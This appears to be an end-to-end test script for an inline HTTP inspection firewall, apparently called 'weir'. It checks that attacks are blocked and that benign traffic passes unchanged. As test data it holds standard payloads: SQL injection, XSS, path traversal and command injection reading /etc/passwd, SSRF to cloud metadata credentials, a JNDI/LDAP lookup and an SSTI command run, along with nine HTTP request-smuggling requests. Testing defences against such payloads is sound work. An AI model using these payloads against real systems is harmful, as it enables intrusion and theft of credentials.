#!/usr/bin/env python3
"""Issue 5 end to end: inline HTTP/1 inspection in the lab with the default
ruleset, real curl and nginx, weir-control and weirctl beside the dataplane.

* each attack class in the query, a JSON body, a form body, a custom header
  and a cookie is stopped: the client is reset and the origin never reads
  the request (it records every request it reads);
* an attack in the query of a request whose body never comes is stopped
  before nginx logs anything;
* benign requests (hard negatives included) reach the origin byte-identical;
* keep-alive: a benign request is answered, the malicious one after it on
  the same connection is reset and never read;
* each request-smuggling case reaches nginx as nothing or as exactly one
  unambiguous request, never as two;
* the blocks are alerts in `weirctl alerts` with rule ids, request line,
  zone and field.
"""
import base64
import json
import os
import subprocess
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import weirlab  # noqa: E402
from lab_control import Control  # noqa: E402
from weirlab import (IP4_SERVER, IP6_SERVER, LAB_DIR, NS_CLIENT, NS_SERVER, check, log,  # noqa: E402
                     wait_for)

HERE = os.path.dirname(os.path.abspath(__file__))
ORIGIN_PORT = 8080

ATTACKS = {
    'sqli': "1' UNION SELECT username, password FROM users--",
    'xss': '<script>alert(document.cookie)</script>',
    'path_traversal': '../../../../etc/passwd',
    'cmd_injection': '; cat /etc/passwd #',
    'ssrf': 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'jndi': '${jndi:ldap://198.18.0.9:1389/Exploit}',
    'ssti': "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
}
PLACEMENTS = ['query', 'json', 'form', 'header', 'cookie']

BENIGN = [
    ('GET', "/search?q=O'Brien%20and%20the%20union%20station", '', {}),
    ('GET', '/search?q=select%20the%20best%20plan%20for%20my%20team', '', {}),
    ('POST', '/api/comments', json.dumps({'body': "Please drop me a line when it's ready; I'll select one."}),
     {'Content-Type': 'application/json'}),
    ('POST', '/api/tickets', json.dumps({'title': 'Build fails', 'text': '```\nmake && ./run --verbose\n```\nAny idea?'}),
     {'Content-Type': 'application/json'}),
    ('POST', '/api/posts', json.dumps({'html': '<p><strong>Hello</strong> <a href="https://docs.example/x">docs</a></p>'}),
     {'Content-Type': 'application/json'}),
    ('POST', '/login', 'user=mary.o%27neil&password=correct%20horse%20battery', {'Content-Type': 'application/x-www-form-urlencoded'}),
    ('PUT', '/api/users/42', json.dumps({'name': 'Zoë', 'email': 'zoe@example.org', 'tags': ['a', 'b']}),
     {'Content-Type': 'application/json'}),
    ('DELETE', '/api/orders/1f0c6a9e-33b1-4a55-9f3e-0c2f3b1d9a77', '', {}),
    ('GET', '/api/me', '', {'Authorization': 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiJ9.'
                                             'c2lnbmF0dXJlLW5vdC1yZWFs'}),
    ('GET', '/', '', {'Cookie': '_ga=GA1.2.1234567890.1700000000; session=abcdef0123456789; theme=dark'}),
]


def raw_request(method, target, body='', headers=None, host='lab.example'):
    body_b = body.encode() if isinstance(body, str) else body
    lines = [f'{method} {target} HTTP/1.1', f'Host: {host}', 'User-Agent: weir-e2e/1.0', 'Accept: */*']
    for k, v in (headers or {}).items():
        lines.append(f'{k}: {v}')
    if body_b or method in ('POST', 'PUT', 'PATCH'):
        lines.append(f'Content-Length: {len(body_b)}')
    return ('\r\n'.join(lines) + '\r\n\r\n').encode('utf-8') + body_b


def raw_client(lab, addr, port, requests, hold_ms=3000):
    path = os.path.join(lab.tmp, f'raw-{time.monotonic_ns()}.json')
    with open(path, 'w') as f:
        json.dump([base64.b64encode(r).decode() for r in requests], f)
    res = weirlab.ns_run(NS_CLIENT, ['/usr/bin/python3', os.path.join(HERE, 'peers', 'http_raw_client.py'),
                                     addr, str(port), path, '--hold-ms', str(hold_ms)], timeout=60)
    return json.loads(res.stdout.strip().splitlines()[-1])


class Origin:
    """The recording HTTP server in the server namespace."""

    def __init__(self, lab, addr):
        self.path = os.path.join(lab.tmp, f'origin-{addr.replace(":", "_")}.jsonl')
        self.proc = weirlab.ns_popen(NS_SERVER, ['/usr/bin/python3', os.path.join(HERE, 'peers', 'http_record_server.py'),
                                                 addr, str(ORIGIN_PORT), self.path], stdout=subprocess.PIPE, text=True)
        assert self.proc.stdout.readline().strip() == 'ready'

    def requests(self):
        if not os.path.exists(self.path):
            return []
        with open(self.path) as f:
            return [base64.b64decode(r['request']) for r in map(json.loads, f) if 'request' in r]

    def stop(self):
        self.proc.terminate()


def curl_attack(lab, base, tid, cls, placement, payload):
    url = f'{base}:{ORIGIN_PORT}/t/{tid}'
    enc = urllib.parse.quote(payload, safe='')
    extra = []
    if placement == 'query':
        url += '?q=' + enc
    elif placement == 'json':
        extra = ['-H', 'Content-Type: application/json', '--data-binary', json.dumps({'comment': {'text': payload}})]
    elif placement == 'form':
        extra = ['-H', 'Content-Type: application/x-www-form-urlencoded', '--data-binary', 'name=ann&comment=' + enc]
    elif placement == 'header':
        extra = ['-H', f'X-Customer-Note: {payload}']
    elif placement == 'cookie':
        extra = ['-H', f'Cookie: theme=dark; pref={enc}']
    res = weirlab.ns_run(NS_CLIENT, ['curl', '-sS', '-g', '--max-time', '10', '-o', '/dev/null', '-w', '%{http_code}',
                                     *extra, url], check=False, timeout=20)
    return res.returncode, res.stdout.strip()


def test_attack_matrix(lab, origin, base):
    missed = []
    tid = 0
    for cls, payload in ATTACKS.items():
        for placement in PLACEMENTS:
            tid += 1
            rc, code = curl_attack(lab, base, f'{base[-3:].strip("[]/")}-{tid}', cls, placement, payload)
            if rc == 0 or code not in ('000', ''):
                missed.append(f'{cls}/{placement} (curl rc {rc}, http {code})')
    time.sleep(0.5)
    leaked = [r[:80] for r in origin.requests() if b'/t/' in r]
    check(not missed, f'{base}: all {len(ATTACKS) * len(PLACEMENTS)} attacks ({len(ATTACKS)} classes x '
                      f'{len(PLACEMENTS)} placements) were reset' + (f'; missed: {missed}' if missed else ''))
    check(not leaked, f'{base}: the origin read none of the attack requests' + (f'; read: {leaked}' if leaked else ''))


def test_benign_identical(lab, origin, addr):
    before = len(origin.requests())
    sent = [raw_request(m, t, b, h) for m, t, b, h in BENIGN]
    res = raw_client(lab, addr, ORIGIN_PORT, sent)
    check(res['error'] is None and len(res['responses']) == len(sent),
          f'{len(sent)} benign requests (hard negatives) on one keep-alive connection all answered: {res}')
    time.sleep(0.3)
    got = origin.requests()[before:]
    check(got == sent, f'the origin read the {len(sent)} benign requests byte-identical, in order')


def test_keepalive(lab, origin, addr):
    before = len(origin.requests())
    benign = raw_request('GET', '/ka/benign?q=union%20station', '')
    attack = raw_request('GET', '/ka/attack?q=' + urllib.parse.quote(ATTACKS['sqli'], safe=''), '')
    res = raw_client(lab, addr, ORIGIN_PORT, [benign, attack])
    check(res['responses'][:1] == ['HTTP/1.1 200 OK'] and res['error'] == 'reset' and res['error_after_request'] == 1,
          f'keep-alive: benign request answered, the malicious one after it reset ({res})')
    time.sleep(0.3)
    got = origin.requests()[before:]
    check(got == [benign], 'keep-alive: the origin read exactly the benign request')


def nginx_log(name):
    path = os.path.join(LAB_DIR, name)
    return open(path, errors='replace').read() if os.path.exists(path) else ''


def test_query_attack_body_pending(lab, addr):
    marker = f'pending-{time.monotonic_ns()}'
    head = (f'POST /upload/{marker}?id=' + urllib.parse.quote(ATTACKS['sqli'], safe='') + ' HTTP/1.1\r\n'
            'Host: lab.example\r\nContent-Type: application/octet-stream\r\nContent-Length: 100000\r\n\r\n').encode()
    res = raw_client(lab, addr, 80, [head], hold_ms=3000)
    check(res['error'] == 'reset' and res['seconds'] < 2.5,
          f'attack in the query with the body still to come: reset after {res["seconds"]} s ({res})')
    time.sleep(1.0)
    logs = nginx_log('nginx-access.log') + nginx_log('nginx-error.log')
    check(marker not in logs, 'nginx logged nothing of that request (access and error log)')


SMUGGLING = {
    'cl_te': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n'
             '0\r\n\r\nGET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'te_cl': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n'
             '2c\r\nGET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n\r\n0\r\n\r\n',
    'duplicate_cl': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n'
                    'GET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'te_obfuscated': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: xchunked\r\nContent-Length: 44\r\n\r\n'
                     'GET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'te_chunked_identity': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked, identity\r\n'
                           'Content-Length: 44\r\n\r\n0\r\n\r\nGET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'space_before_colon': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nContent-Length : 44\r\n\r\n'
                          'GET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'bare_lf': 'POST /smuggle-{n} HTTP/1.1\nHost: lab\nContent-Length: 44\n\nGET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'obs_fold_te': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nContent-Length: 44\r\nTransfer-Encoding:\r\n chunked\r\n\r\n'
                   '0\r\n\r\nGET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n',
    'bad_chunk_size': 'POST /smuggle-{n} HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\n\r\n'
                      '0x2c\r\nGET /smuggled-{n} HTTP/1.1\r\nHost: lab\r\n\r\n\r\n0\r\n\r\n',
}


def test_smuggling(lab, addr):
    results = []
    for i, (name, text) in enumerate(SMUGGLING.items()):
        n = f'{i}-{time.monotonic_ns() % 100000}'
        res = raw_client(lab, addr, 80, [text.format(n=n).encode()], hold_ms=1500)
        results.append((name, n, res))
    time.sleep(1.0)
    access = nginx_log('nginx-access.log')
    bad = []
    for name, n, res in results:
        first = access.count(f'/smuggle-{n} ')
        second = access.count(f'/smuggled-{n} ')
        log(f'  {name}: client {res["error"] or res["responses"]}, nginx read {first} + {second} (smuggled)')
        if second != 0 or first > 1:
            bad.append(name)
    check(not bad, f'each of {len(SMUGGLING)} smuggling cases reached nginx as nothing or one request' +
          (f'; two requests: {bad}' if bad else ''))


def test_alerts(ctl):
    alerts = ctl.json('alerts', 'list', '--limit', '500')
    items = alerts if isinstance(alerts, list) else alerts.get('alerts', [])
    texts = [a.get('text', '') for a in items]
    sqli = [t for t in texts if t.startswith('block ') and '/t/' in t]
    check(len(sqli) >= len(ATTACKS) * len(PLACEMENTS),
          f'{len(sqli)} block alerts for the attack matrix in `weirctl alerts` (rule ids | request line | zone field | excerpt)')
    log('  e.g. ' + sqli[0])
    zones = {a.get('zone') for a in items}
    # The cookie placement is found in the cookie field and in the Cookie
    # header that carries it; either names it.
    cookie = [t for t in texts if '| cookie pref' in t or '| header cookie |' in t]
    check({'query_arg', 'body_json', 'body_form', 'header'} <= zones and cookie,
          f'alerts name the zone and field of each placement: {sorted(z for z in zones if z)}, '
          f'{len(cookie)} naming the cookie')


def main():
    weirlab.require_weir()
    with weirlab.Lab() as lab:
        config = lab.config({'control': {'socket': os.path.join(LAB_DIR, 'dp.sock'),
                                         'spool': os.path.join(LAB_DIR, 'spool.bin')}})
        ctl = Control(lab, config)
        origins = []
        try:
            ctl.start()
            lab.start_bridge(config=config, extra=['--state-dir', os.path.join(lab.tmp, 'dp-state')])
            wait_for(ctl.connected, 15, what='dataplane connected to weir-control')
            ctl.weirctl('mode', 'block')
            for addr, base in ((IP4_SERVER, 'http://198.18.0.2'), (IP6_SERVER, 'http://[2001:2::2]')):
                origin = Origin(lab, addr)
                origins.append(origin)
                test_attack_matrix(lab, origin, base)
                test_benign_identical(lab, origin, addr)
                test_keepalive(lab, origin, addr)
            test_query_attack_body_pending(lab, IP4_SERVER)
            test_smuggling(lab, IP4_SERVER)
            stats = lab.telemetry('/weir/stats')
            log('  l7 counters: ' + json.dumps({k: v for k, v in stats.items() if k.startswith('l7_')}))
            wait_for(lambda: len(ctl.json('alerts', 'list', '--limit', '500')) > 0, 10, what='alerts stored')
            test_alerts(ctl)
        finally:
            for o in origins:
                o.stop()
            ctl.stop()
    log('PASS')


if __name__ == '__main__':
    main()
